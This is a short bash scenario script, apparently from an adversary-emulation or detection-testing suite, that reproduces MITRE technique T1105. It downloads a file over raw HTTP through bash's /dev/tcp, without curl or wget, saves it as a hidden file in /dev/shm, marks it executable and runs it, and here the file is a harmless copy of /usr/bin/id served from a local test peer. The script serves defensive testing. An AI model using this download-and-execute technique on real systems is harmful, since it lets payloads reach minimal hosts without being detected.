#!/usr/bin/env bash
# Ingress tool transfer without any download tool: bash speaks HTTP over /dev/tcp and writes the
# body into /dev/shm, then `chmod +x` and run (the trick used on minimal hosts).
. "$(dirname "$0")/../lib.sh"
scn_begin ingress-bash-devtcp T1105
scn_http_peer
cp /usr/bin/id "$SCN_WORK/srv/x"
dest="/dev/shm/.x-$SCN_RUN_ID"
scn_newfile "$dest"
bash -c 'exec 3<>"/dev/tcp/$1/8080"
printf "GET /x HTTP/1.0\r\nHost: %s\r\n\r\n" "$1" >&3
# Skip the headers (up to the empty line), then copy the body byte for byte.
while IFS= read -r line <&3; do [ "${line%$'"'"'\r'"'"'}" = "" ] && break; done
cat <&3 >"$2"' _ "$SCN_PEER" "$dest"
cmp -s "$dest" /usr/bin/id || scn_fail "the downloaded file differs"
chmod +x "$dest"
"$dest" >"$SCN_WORK/out" &
key=$!
scn_wait_pid $key 10 || scn_fail "the payload did not finish"
grep -q 'uid=0' "$SCN_WORK/out" || scn_fail "the payload did not run"
scn_done $key
